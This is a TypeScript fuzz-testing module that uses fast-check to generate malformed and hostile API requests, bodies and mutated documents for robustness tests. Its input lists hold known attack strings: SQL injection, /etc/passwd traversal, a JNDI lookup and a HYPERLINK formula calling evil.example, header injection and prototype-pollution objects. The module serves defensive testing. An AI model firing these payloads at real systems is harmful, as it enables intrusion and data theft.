import fc from 'fast-check';
import { exampleOf, type Operation, type Schema } from './api-document.js';

const NUMBERS = [0, -1, 1.5, 2 ** 31, 2 ** 53 + 2, 2 ** 63, 1e21, -1e308, 5e-324, -0];
const TEXTS = [
  '',
  ' ',
  '0',
  '-1',
  '1.5',
  '1e3',
  '0x10',
  '１',
  '9223372036854775808',
  'null',
  'undefined',
  'true',
  'NaN',
  'infinity',
  '2026-02-30T10:00:00Z',
  '0000-01-01T00:00:00Z',
  '+275760-09-13T00:00:00.001Z',
  'PT-2H',
  'P1000Y',
  'Mars/Phobos',
  "'; drop table users --",
  '1) or 1=1',
  '$1',
  '%',
  '\\',
  '../../etc/passwd',
  '=HYPERLINK("http://evil.example")',
  'a\u0000b',
  'a\r\nBcc: e@evil.example',
  '\u202egnp.exe',
  '\u{1f469}\u200d\u{1f467}',
  '\ud800',
  'e\u0301'.repeat(2000),
  'x'.repeat(12_000),
  '9'.repeat(400),
  '{{7*7}}',
  '${jndi:ldap://evil.example}',
  'WyIxIl0',
  'e30',
  'WzEsMl0',
  'WzFlMzAwXQ',
];
const SHAPES = [
  null,
  true,
  false,
  [],
  {},
  [[]],
  [null],
  ['x', 1],
  { formula: '1+1' },
  { text: 't', hyperlink: 'javascript:1' },
  { $gt: 0 },
  { length: 1e9 },
  { toString: 1, valueOf: 2 },
  JSON.parse('{"__proto__":{"polluted":true}}') as unknown,
  { constructor: { prototype: { polluted: true } } },
  Array.from({ length: 300 }, () => 1),
  JSON.parse(`${'['.repeat(70)}${']'.repeat(70)}`) as unknown,
];

/** Values that have broken systems like this one, and any others. */
export const hostile: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: fc.constantFrom<unknown>(...NUMBERS), weight: 3 },
  { arbitrary: fc.constantFrom<unknown>(...TEXTS), weight: 5 },
  { arbitrary: fc.constantFrom<unknown>(...SHAPES), weight: 3 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 30 }), weight: 2 },
  { arbitrary: fc.double(), weight: 1 },
  { arbitrary: fc.jsonValue({ maxDepth: 3 }), weight: 2 },
);

const UNKNOWN = [
  'role',
  'isAdmin',
  'userId',
  'user_id',
  'id',
  'createdAt',
  'deletedAt',
  'version',
  '$where',
  'constructor',
];

/** An example of which some fields are missing and some are hostile. */
function spoilt(schema: Schema, valid: Record<string, unknown>): fc.Arbitrary<unknown> {
  const fields = Object.entries(schema.properties ?? {}).map(([name, field]) => {
    const example = name in valid ? valid[name] : exampleOf(field);
    const inner = field.properties === undefined ? fc.constant(example) : spoilt(field, {});
    return [name, fc.oneof({ arbitrary: inner, weight: 4 }, { arbitrary: hostile, weight: 1 })] as const;
  });
  const known = fc.record(Object.fromEntries(fields), { requiredKeys: Object.keys(valid) });
  const more = fc.dictionary(fc.constantFrom(...UNKNOWN), hostile, { maxKeys: 1 });
  return fc.oneof(
    { arbitrary: known, weight: 6 },
    { arbitrary: fc.tuple(known, more).map(([body, extra]) => ({ ...extra, ...body })), weight: 1 },
    { arbitrary: hostile, weight: 1 },
  );
}

export interface HostileRequest {
  path: Record<string, string>;
  query: [string, string][];
  body: unknown;
}

const hostileText = hostile.map((value) => (typeof value === 'string' ? value : JSON.stringify(value)));
/** `%ud800` cannot be written in an address. */
const writable = hostileText.map((text) => text.toWellFormed());

/** Requests of a route, near to what it expects. */
export function hostileRequest(
  { parameters, body }: Operation,
  valid: { path: Record<string, string>; query: Record<string, string>; body: Record<string, unknown> },
): fc.Arbitrary<HostileRequest> {
  const paths = parameters.filter((parameter) => parameter.in === 'path');
  const queries = parameters.filter((parameter) => parameter.in === 'query');
  const textOf = (name: string, schema: Schema | undefined, known: Record<string, string>, weight: number) =>
    fc.oneof(
      { arbitrary: fc.constant(known[name] ?? String(exampleOf(schema ?? {}))), weight },
      { arbitrary: writable, weight: 1 },
    );
  const path = fc.record(
    Object.fromEntries(paths.map(({ name, schema }) => [name, textOf(name, schema, valid.path, 3)])),
  );
  const once = queries.map(
    ({ name, schema }) => [name, textOf(name, schema, valid.query, 2)] as [string, fc.Arbitrary<string>],
  );
  const query = fc
    .record(Object.fromEntries(once), {
      requiredKeys: Object.keys(valid.query).filter((name) => once.some(([one]) => one === name)),
    })
    .chain((known) => {
      const pairs = Object.entries(known);
      const again = fc.constantFrom(
        ...pairs,
        ['sort', 'id; drop table users'],
        ['order[]', '1'],
        ['__proto__[x]', '1'],
      );
      return fc.oneof(
        { arbitrary: fc.constant(pairs), weight: 5 },
        { arbitrary: again.map((pair) => [...pairs, pair]), weight: 1 },
      );
    });
  return fc.record({ path, query, body: body === null ? fc.constant(undefined) : spoilt(body, valid.body) });
}

/** A valid document with some places of it removed, replaced or added to. */
export function mutated(valid: object): fc.Arbitrary<unknown> {
  const places = placesIn(valid);
  const mutation = fc.record({
    place: fc.constantFrom(...places),
    kind: fc.constantFrom('replace', 'remove', 'add'),
    value: hostile,
  });
  return fc.array(mutation, { minLength: 1, maxLength: 3 }).map((mutations) => {
    const copy = structuredClone(valid);
    for (const one of mutations) applyTo(copy, one);
    return copy;
  });
}

type Place = (string | number)[];

function placesIn(value: unknown, at: Place = []): Place[] {
  if (typeof value !== 'object' || value === null) return [at];
  const inner = Object.entries(value).flatMap(([key, one]) => placesIn(one, [...at, key]));
  return at.length === 0 ? inner : [at, ...inner];
}

function applyTo(root: object, { place, kind, value }: { place: Place; kind: string; value: unknown }): void {
  let holder = root as Record<string | number, unknown>;
  for (const key of place.slice(0, -1)) {
    const next = holder[key];
    // An earlier mutation has put something else there.
    if (typeof next !== 'object' || next === null) return;
    holder = next as typeof holder;
  }
  const last = place.at(-1)!;
  if (kind === 'remove') delete holder[last];
  else if (kind === 'replace') holder[last] = value;
  else holder[`x${String(last)}`] = value;
}
